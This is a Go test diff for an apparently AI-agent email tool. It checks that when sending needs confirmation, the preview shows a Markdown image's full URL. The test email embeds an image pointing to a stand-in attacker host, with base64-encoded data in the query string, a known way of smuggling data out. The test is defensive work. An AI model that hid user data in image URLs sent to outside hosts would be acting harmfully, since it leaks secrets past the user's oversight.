@@ -67,3 +67,22 @@ func TestRigAttackPreviewHidesNothing(t *testing.T) {
 		})
 	}
 }
+
+// TestRigAttackPreviewShowsImageURL: a Markdown body's image URL can
+// carry data out (the recipient's mail program fetches it), so the user
+// confirming the send must see it, not just the image's alt text: the
+// plain part (the Markdown) differs from the HTML there by a URL only,
+// which must not make the preview show the HTML.
+func TestRigAttackPreviewShowsImageURL(t *testing.T) {
+	r := newAttackRig(t, policy.Policy{Mode: policy.Confirm}, "alice", "bob")
+	bob := r.Users[1]
+	url := "https://" + r.Evil + "/pixel.png?d=c2VjcmV0IGRhdGEgaGVyZQ"
+	var out sendOutput
+	res := r.H.Decode("send_email", map[string]any{"account": "alice", "to": []any{bob.Email}, "subject": "Report",
+		"body": "Hi Bob,\n\nHere is the chart ![chart](" + url + ") as promised.", "markdown": true}, &out)
+	if out.Status != "pending" {
+		t.Fatalf("status %q, want pending: %s", out.Status, resultText(res))
+	}
+	told(t, resultText(res), url)
+	r.nothingReachedPostfix(bob)
+}
